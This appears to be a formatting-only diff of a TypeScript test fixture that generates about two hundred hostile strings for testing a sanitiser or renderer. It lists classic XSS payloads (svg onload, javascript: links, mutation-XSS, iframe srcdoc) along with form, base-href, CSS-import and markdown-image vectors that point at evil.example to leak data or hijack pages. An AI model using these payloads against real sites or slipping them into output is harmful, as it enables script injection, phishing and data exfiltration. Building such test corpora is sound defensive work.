@@ -1,5 +1,5 @@
-// Two hundred texts that try to become markup, script, style, a link, a request or somebody else's words: classic payloads in every wrapping
-// that has ever slipped through. Deterministic.
+// Two hundred texts that try to become markup, script, style, a link, a request or somebody else's
+// words: classic payloads in every wrapping that has ever slipped through. Deterministic.
 
 const SCRIPTS = [
   'alert(1)',
@@ -16,20 +16,24 @@ const PAYLOADS: readonly ((script: string) => string)[] = [
   (script) => `<svg/onload=${script}>`,
   (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
   (script) => `<svg><script>${script}</script></svg>`,
-  (script) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
+  (script) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
   (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
   (script) => `<iframe src="javascript:${script}">`,
   (script) => `<a href="javascript:${script}">press here</a>`,
   (script) => `[press here](javascript:${script})`,
   (script) => `![picture](http://evil.example/p.png?${script.length})`,
-  (script) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${script}//'>`,
+  (script) =>
+    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${script}//'>`,
   (script) => `"><input autofocus onfocus=${script}>`,
   (script) => `' onmouseover='${script}' x='`,
-  (script) => `<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/${script.length})}</style>`,
+  (script) =>
+    `<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/${script.length})}</style>`,
   (script) => `<link rel=stylesheet href=http://evil.example/${script.length}.css>`,
   (script) => `<meta http-equiv=refresh content="0;url=http://evil.example/${script.length}">`,
   (script) => `<base href=http://evil.example/${script.length}/>`,
-  (script) => `<form action=http://evil.example/${script.length}><button autofocus>Allow once</button></form>`,
+  (script) =>
+    `<form action=http://evil.example/${script.length}><button autofocus>Allow once</button></form>`,
   (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
   (script) => `<video><source onerror=${script}></video>`,
   (script) => `<details open ontoggle=${script}>`,
@@ -46,9 +50,11 @@ const PAYLOADS: readonly ((script: string) => string)[] = [
   (script) => `[U+202E] [U+0041] [u+202e] ${script}`,
   (script) => `${'A'.repeat(400)}<img src=x onerror=${script}>`,
   (script) => `\n\n\n\t<!--${script}--><![CDATA[<script>${script}</script>]]>`,
-  (script) => `data:text/html;base64,${btoa(script)} vbscript:${script} http://evil.example/?q=${encodeURIComponent(script)}`,
+  (script) =>
+    `data:text/html;base64,${btoa(script)} vbscript:${script} http://evil.example/?q=${encodeURIComponent(script)}`,
   (script) => `<p style="position:fixed;inset:0;background:red">${script}</p>`,
-  (script) => `<object><param name=x value="${script}"></object><embed src=http://evil.example/x.swf>`,
+  (script) =>
+    `<object><param name=x value="${script}"></object><embed src=http://evil.example/x.swf>`,
   (script) => `</script><script>${script}//</title><title>`,
   (script) => `<x onclick=${script} contenteditable tabindex=1 accesskey=a>`,
   (script) => `<marquee onstart=${script}>`,
@@ -61,4 +67,6 @@ const PAYLOADS: readonly ((script: string) => string)[] = [
   (script) => `<portal src=http://evil.example/${script.length}><fencedframe>`,
 ];
 
-export const HOSTILE_TEXTS: readonly string[] = SCRIPTS.flatMap((script) => PAYLOADS.map((payload) => payload(script)));
+export const HOSTILE_TEXTS: readonly string[] = SCRIPTS.flatMap((script) =>
+  PAYLOADS.map((payload) => payload(script)),
+);
